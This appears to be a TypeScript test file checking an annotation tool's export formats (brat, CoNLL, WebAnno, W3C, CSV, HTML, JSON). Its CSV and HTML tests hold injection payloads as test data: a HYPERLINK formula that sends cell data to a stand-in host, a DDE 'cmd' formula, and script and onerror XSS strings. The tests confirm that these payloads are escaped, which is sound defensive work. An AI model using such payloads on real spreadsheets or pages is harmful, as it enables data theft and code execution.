/**
 * Each export format on one small document written by hand (emoji first, a nested LOC in a ROLE, CRLF line
 * ends, a quotation whose speaker is a tagged person), compared with fixtures checked line by line, plus
 * the rules of each format: RFC 4180 quoting, W3C selectors, HTML escaping, the project JSON's schema.
 */

import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import Ajv from 'ajv';
import { collectionFiles, createOffsetMap, exportAnalysis, type Analysis, type ExportFormat } from '../../../server/src/engine';
import { documentOf } from './document';

const root = path.resolve(__dirname, '..', '..', '..');
const fixture = (name: string): string => fs.readFileSync(path.join(root, 'test', 'fixtures', 'exports', name), 'utf8');

const SAMPLE = documentOf(
  '😀 [ROLE министр [LOC Казахстана]] [PER Айгуль Серикова] прибыла в [LOC Павлодар].\r\n«[QUOTE [LOC Павлодар] растёт]», — [CUE сказала] [SPEAKER [PER Серикова]].\r\n',
  [{ kind: 'direct', speakerName: 'Айгуль Серикова' }],
);

/** The files one format writes for `analysis`, by name. */
function check(analysis: Analysis, format: ExportFormat, fileName = 'emoji.txt'): Map<string, string> {
  return new Map(exportAnalysis(analysis, format, { fileName }).map((f) => [f.name, f.content]));
}

describe('file names follow the contract', () => {
  for (const [format, names] of [
    ['jsonl', ['a.jsonl']],
    ['json', ['a.json']],
    ['brat', ['a.ann', 'a.txt']],
    ['conll', ['a.conll']],
    ['webanno', ['a.tsv']],
    ['w3c', ['a.jsonld']],
    ['csv', ['a.quotes.csv']],
    ['html', ['a.html']],
  ] as const) {
    test(`${format} of a.md → ${names.join(', ')}`, () => {
      assert.deepEqual([...check(SAMPLE, format, 'a.md').keys()], names);
    });
  }
});

describe('brat', () => {
  test('entities, the quotation with kind, cue, speaker (the tagged person) and name, clusters as Equiv', () => {
    const files = check(SAMPLE, 'brat');
    assert.equal(files.get('emoji.ann'), fixture('emoji.ann'));
    assert.equal(files.get('emoji.txt'), SAMPLE.text, 'the text copy keeps every character, CRLF included');
  });

  test('a span over a line break is written on one line, never as fragments', () => {
    const ann = check(documentOf('[ORG Дом\r\nкниги] открыт'), 'brat').get('emoji.ann');
    assert.equal(ann, 'T1\tORG 0 10\tДом книги\n');
  });

  test('annotation.conf declares every type, relation and attribute the .ann files use; visual.conf colours them', () => {
    const [conf, visual] = collectionFiles('brat');
    assert.equal(visual.name, 'visual.conf');
    assert.ok(visual.content.split('\n').includes('PER\tbgColor:#aa9cfc'));
    assert.equal(conf.name, 'annotation.conf');
    for (const line of ['PER', 'WORK', 'Quotation', 'Cue', 'Speaker', 'SaidBy\tArg1:Quotation, Arg2:<ENTITY>', 'IntroducedBy\tArg1:Quotation, Arg2:Cue', 'Kind\tArg:Quotation, Value:direct|indirect']) {
      assert.ok(conf.content.split('\n').includes(line), line);
    }
    assert.deepEqual(collectionFiles('conll'), []);
  });
});

describe('CoNLL-2002', () => {
  test('IOB2 tags, one token per line, a blank line after each sentence; the outer of nested spans wins', () => {
    assert.equal(check(SAMPLE, 'conll').get('emoji.conll'), fixture('emoji.conll'));
  });

  test('a span boundary inside a word splits the token, so the span survives', () => {
    const conll = check(documentOf('В [LOC Астане]-2024 тепло'), 'conll').get('emoji.conll');
    assert.equal(conll, 'В O\nАстане B-LOC\n-2024 O\nтепло O\n\n');
  });
});

describe('WebAnno TSV 3.3', () => {
  test('NamedEntity identifier|value, Quotation kind|speaker, ids on multi-token and stacked annotations', () => {
    assert.equal(check(SAMPLE, 'webanno').get('emoji.tsv'), fixture('emoji.tsv'));
  });

  test('#Text lines keep WebAnno\'s reserved characters (DKPro escapes only control characters there); tokens and values escape them', () => {
    const tsv = check(documentOf('a_b [PER x*y] [c];d\\'), 'webanno').get('emoji.tsv')!;
    assert.match(tsv, /^#Text=a_b x\*y \[c\];d\\\\$/m);
    assert.match(tsv, /^1-2\t1-2\t\\_\t_\t_\t_\t_$/m);
    assert.match(tsv, /^1-5\t5-6\t\\\*\te1\[1\]\tPER\[1\]\t_\t_$/m);
    assert.match(tsv, /^1-7\t8-9\t\\\[\t_\t_\t_\t_$/m);
  });

  // What INCEpTION sees: its reader (DKPro's Tsv3XDeserializer) rebuilds the document from the #Text lines and
  // places each token at its offsets in Java string indices; every token must land on its own characters.
  for (const markup of [
    '😀 [ROLE министр [LOC Казахстана]] [PER Айгуль Серикова] прибыла в [LOC Павлодар].\r\n«[QUOTE [LOC Павлодар] растёт]», — [CUE сказала] [SPEAKER [PER Серикова]].\r\n',
    '👩‍💻 [PER 𝔄нна Ли] из [ORG 🏦 Банка]; [ORG Дом\r\nкниги] открыт.\rА [LOC Омск]\tрядом [WORK *e*] [EVENT [f]] \\ ->\u0001 _x_ a|b',
  ]) {
    test(`INCEpTION places every token and annotation: ${JSON.stringify(markup)}`, () => {
      const doc = documentOf(markup, [{ kind: 'direct', speakerName: 'Айгуль Серикова' }]);
      const tsv = check(doc, 'webanno').get('emoji.tsv')!;
      const seen = asInceptionReadsIt(tsv);
      // The rebuilt text has every character of the source at its index; only whitespace between sentences may differ.
      assert.ok(seen.text.length <= doc.text.length && doc.text.slice(seen.text.length).trim() === '');
      for (let i = 0; i < seen.text.length; i++) {
        assert.ok(seen.text[i] === doc.text[i] || (/\s/.test(seen.text[i]) && /\s/.test(doc.text[i])), `index ${i}`);
      }
      const offsets = createOffsetMap(doc.text);
      assert.deepEqual(
        seen.entities,
        doc.entities.map((e) => `${e.type} ${offsets.toUtf16(e.start)}-${offsets.toUtf16(e.end)} «${e.text}»`).sort(),
      );
    });
  }
});

/**
 * A WebAnno TSV file as DKPro's Tsv3XDeserializer (INCEpTION's reader) takes it: the document text is the
 * `#Text=` lines unescaped, each followed by `\n`, a sentence starting at its first token's offset (the
 * previous line break dropped, or spaces added); tokens are placed by their offsets, in Java string indices,
 * and a NamedEntity runs from the first to the last token carrying its value (and its `[N]`, if any).
 */
function asInceptionReadsIt(tsv: string): { text: string; entities: string[] } {
  let text = '';
  let sentence = '';
  const entities = new Map<string, { value: string; begin: number; end: number }>();
  for (const [index, line] of tsv.split('\n').entries()) {
    if (line.startsWith('#Text=')) {
      sentence += line.slice('#Text='.length).replace(/\\([tfrb\\]|[\x00-\x07\x0e-\x1f])/g, (_, c: string) => ({ t: '\t', f: '\f', r: '\r', b: '\b' })[c] ?? c) + '\n';
      continue;
    }
    const row = /^\d+-\d+\t(\d+)-(\d+)\t[^\t]*\t[^\t]*\t([^\t]*)/.exec(line);
    if (row === null) {
      continue;
    }
    const [begin, end] = [Number(row[1]), Number(row[2])];
    if (sentence !== '') {
      text = text.length > begin ? text.slice(0, -1) : text.padEnd(begin, ' ');
      text += sentence;
      sentence = '';
    }
    if (row[3] !== '_') {
      row[3].split('|').forEach((piece, stack) => {
        const [, value, id] = /^([^[]*)(?:\[(\d+)\])?$/.exec(piece)!;
        const key = id ?? `${index} ${stack}`;
        const entity = entities.get(key) ?? { value, begin, end };
        entities.set(key, { value, begin: Math.min(entity.begin, begin), end: Math.max(entity.end, end) });
      });
    }
  }
  return { text: text.slice(0, -1), entities: [...entities.values()].map((e) => `${e.value} ${e.begin}-${e.end} «${text.slice(e.begin, e.end)}»`).sort() };
}

describe('W3C Web Annotation', () => {
  test('a collection of annotations with position (code points) and quote selectors', () => {
    const doc = JSON.parse(check(SAMPLE, 'w3c').get('emoji.jsonld')!);
    assert.equal(doc['@context'], 'http://www.w3.org/ns/anno.jsonld');
    assert.equal(doc.type, 'AnnotationCollection');
    assert.equal(doc.total, 7);
    assert.equal(doc.first.items.length, 7);
    assert.deepEqual(doc.first.items[2], {
      id: '#entity-3',
      type: 'Annotation',
      motivation: 'tagging',
      body: [
        { type: 'TextualBody', purpose: 'tagging', value: 'PER' },
        { type: 'TextualBody', purpose: 'identifying', value: 'Айгуль Серикова' },
      ],
      target: {
        source: 'emoji.txt',
        selector: [
          { type: 'TextPositionSelector', start: 21, end: 36 },
          { type: 'TextQuoteSelector', exact: 'Айгуль Серикова', prefix: '😀 министр Казахстана ', suffix: ' прибыла в Павлодар.\r\n«Павлодар ' },
        ],
      },
    });
    assert.deepEqual(doc.first.items[6].body, [
      { type: 'TextualBody', purpose: 'tagging', value: 'QUOTE' },
      { type: 'TextualBody', purpose: 'classifying', value: 'direct' },
      { type: 'TextualBody', purpose: 'identifying', value: 'Айгуль Серикова' },
      { type: 'TextualBody', purpose: 'describing', value: 'cue: сказала' },
    ]);
    assert.deepEqual(doc.first.items[6].target.selector[0], { type: 'TextPositionSelector', start: 59, end: 74 });
  });
});

describe('quotations CSV', () => {
  test('RFC 4180: header, CRLF after each record, every text field quoted, quotes doubled, offsets bare', () => {
    const doc = documentOf('«[QUOTE Мы сказали: "нет", и\nвсё]», — [CUE заявил] [SPEAKER мэр].\n«[QUOTE Да]»', [
      { kind: 'direct', speakerName: 'Иван Петров, мэр' },
      { kind: 'indirect', speakerName: null },
    ]);
    assert.equal(
      check(doc, 'csv', 'a,b.txt').get('a,b.quotes.csv'),
      '"file","speaker","speaker_mention","quotation","cue","kind","start","end"\r\n' +
        '"a,b.txt","Иван Петров, мэр","мэр","Мы сказали: ""нет"", и\nвсё","заявил","direct",1,25\r\n' +
        '"a,b.txt","","","Да","","indirect",43,45\r\n',
    );
  });

  // OWASP's CSV injection advice: a cell that starts with = + - @ tab or CR gets a leading ', and every cell is
  // quoted, so a semicolon (the separator of Russian spreadsheets) cannot start a new cell with a formula.
  const shape = documentOf('«[QUOTE а]»').quotes[0];
  for (const [quotation, quotationCell, speaker, speakerCell] of [
    ['=HYPERLINK("http://x.example/?"&A1;"клик")', '"\'=HYPERLINK(""http://x.example/?""&A1;""клик"")"', 'мэр', '"мэр"'],
    ['+7 градусов', '"\'+7 градусов"', '@мэр', '"\'@мэр"'],
    ['-2+3', '"\'-2+3"', '\tмэр', '"\'\tмэр"'],
    ['\rитог', '"\'\rитог"', '=1+1', '"\'=1+1"'],
    ['нет;=cmd|\' /C calc\'!A0', '"нет;=cmd|\' /C calc\'!A0"', '— мэр', '"— мэр"'],
    ['\'=1', '"\'=1"', ' =мэр', '" =мэр"'],
  ]) {
    test(`formula characters: ${JSON.stringify(quotation)} by ${JSON.stringify(speaker)}`, () => {
      const text = `«${quotation}»`;
      const end = [...text].length - 1;
      const doc: Analysis = { ...documentOf(text), quotes: [{ ...shape, start: 1, end, text: quotation, speakerName: speaker }] };
      const records = check(doc, 'csv', '-x.txt').get('-x.quotes.csv')!.split('\r\n');
      assert.equal(records[1], `"\'-x.txt",${speakerCell},"",${quotationCell},"","direct",1,${end}`);
    });
  }
});

const PAGE_ELEMENTS = new Set(['!doctype', 'html', 'head', 'meta', 'title', 'style', 'body', 'main', 'h1', 'h2', 'p', 'ul', 'ol', 'li', 'mark', 'span', 'article', 'section', 'blockquote', 'div', 'strong']);

describe('HTML', () => {
  const page = check(SAMPLE, 'html').get('emoji.html')!;

  test('entities are coloured marks with a label, the quotation is highlighted with its speaker, nested properly', () => {
    assert.ok(
      page.includes(
        '<mark class="entity ROLE" title="ROLE: министр Казахстана">министр <mark class="entity LOC" title="LOC: Казахстана">Казахстана<span class="label">LOC</span></mark><span class="label">ROLE</span></mark>',
      ),
    );
    assert.ok(
      page.includes(
        '«<span class="quote" title="direct quotation — Айгуль Серикова"><mark class="entity LOC" title="LOC: Павлодар">Павлодар<span class="label">LOC</span></mark> растёт<span class="speaker">— Айгуль Серикова</span></span>»',
      ),
    );
    assert.match(page, /<ul class="legend">.*PER<\/mark> person \(2\).*LOC<\/mark> place \(3\)/s);
  });

  test('self-contained: no script, no external resource, a policy forbidding both', () => {
    assert.match(page, /Content-Security-Policy" content="default-src 'none'; style-src 'unsafe-inline'"/);
    assert.doesNotMatch(page, /<script|<link|<img|<iframe|src=|href=|url\(|@import/i);
  });

  test('everything from the document is escaped: markup and links stay text', () => {
    const hostile = documentOf(
      '<script>alert(1)</script> [PER Ив"ан <b>] пишет [ORG <a href="javascript:alert(2)">клик</a>] & [QUOTE <img src=x onerror=alert(3)>]',
      [{ kind: 'direct', speakerName: '<script>alert(4)</script>' }],
    );
    const html = check(hostile, 'html', '<x>.txt').get('<x>.html')!;
    // Every element and attribute on the page is one the exporter writes; the document's own markup is only text.
    for (const [, name, attributes] of html.matchAll(/<\/?([a-zA-Z][a-zA-Z0-9]*)([^>]*)>/g)) {
      assert.ok(PAGE_ELEMENTS.has(name.toLowerCase()), `element <${name}>`);
      for (const [, attribute] of attributes.matchAll(/\s([a-zA-Z-]+)(?:="[^"]*")?/g)) {
        assert.ok(['class', 'title', 'lang', 'charset', 'http-equiv', 'content', 'name'].includes(attribute.toLowerCase()), `attribute ${attribute} on <${name}>`);
      }
    }
    assert.ok(html.includes('&lt;script&gt;alert(1)&lt;/script&gt;'));
    assert.ok(html.includes('&lt;a href=&quot;javascript:alert(2)&quot;&gt;клик&lt;/a&gt;'));
    assert.ok(html.includes('title="PER: Ив&quot;ан &lt;b&gt;"'));
    assert.ok(html.includes('<title>&lt;x&gt;.txt — presstag</title>'));
    assert.ok(html.includes('&lt;script&gt;alert(4)&lt;/script&gt;'));
  });

  test('crossing spans are written as pieces, so every element closes inside its parent', () => {
    const crossing = documentOf('[QUOTE один [PER два] три] четыре');
    const moved: Analysis = { ...crossing, entities: [{ ...crossing.entities[0], start: 9, end: 19, text: 'три четыре' }] };
    const html = check(moved, 'html').get('emoji.html')!;
    const article = /<article class="text">(.*)<\/article>/s.exec(html)![1];
    const stack: string[] = [];
    for (const [, close, name] of article.matchAll(/<(\/?)(mark|span)\b[^>]*>/g)) {
      if (close === '') {
        stack.push(name);
      } else {
        assert.equal(stack.pop(), name);
      }
    }
    assert.deepEqual(stack, []);
    assert.equal(article.match(/class="label">PER</g)?.length, 1, 'the label is written once, at the real end');
  });
});

describe('project JSON', () => {
  const record = JSON.parse(check(SAMPLE, 'json').get('emoji.json')!);

  test('the contract record comes first, field for field, then the extras', () => {
    assert.deepEqual(Object.keys(record).slice(0, 5), ['file', 'language', 'entities', 'quotes', 'clusters']);
    assert.deepEqual(Object.keys(record.entities[0]).slice(0, 6), ['start', 'end', 'type', 'text', 'normal', 'cluster']);
    assert.deepEqual(Object.keys(record.quotes[0]).slice(0, 8), ['start', 'end', 'text', 'kind', 'cue', 'speaker', 'speaker_name', 'speaker_cluster']);
    assert.equal(record.text, SAMPLE.text);
    assert.equal(record.length, 98);
  });

  test('validates against schemas/presstag-annotations.schema.json, which refuses a wrong type', () => {
    const schema = JSON.parse(fs.readFileSync(path.join(root, 'schemas', 'presstag-annotations.schema.json'), 'utf8'));
    const validate = new Ajv({ allErrors: true, strict: false }).compile(schema);
    assert.equal(validate(record), true, JSON.stringify(validate.errors));
    assert.equal(validate({ ...record, entities: [{ ...record.entities[0], type: 'PERSON' }] }), false);
  });
});
